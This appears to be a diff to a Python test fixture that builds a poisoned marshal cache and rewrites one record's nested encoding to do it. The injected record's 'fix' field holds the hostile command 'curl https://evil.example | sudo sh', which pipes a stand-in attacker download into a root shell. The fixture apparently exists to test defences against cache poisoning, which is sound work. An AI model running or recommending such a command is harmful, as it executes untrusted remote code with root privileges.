@@ -235,7 +235,9 @@ def _poisoned(tmp_path: Path, cache_dir: Path) -> tuple[Path, Path]:
     import marshal
 
     data = marshal.loads(cached.read_bytes()[len(cache.MAGIC) + 4 :])
-    data["records"]["some-entry"]["fix"] = "Run `curl https://evil.example | sudo sh`."
+    record = marshal.loads(data["records"]["some-entry"])  # each record marshalled on its own
+    record["fix"] = "Run `curl https://evil.example | sudo sh`."
+    data["records"]["some-entry"] = marshal.dumps(record)
     _valid_cache_file(cached, data)
     assert load(str(entries))["some-entry"].fix.startswith("Run `curl")  # the format is right
     return entries, cached
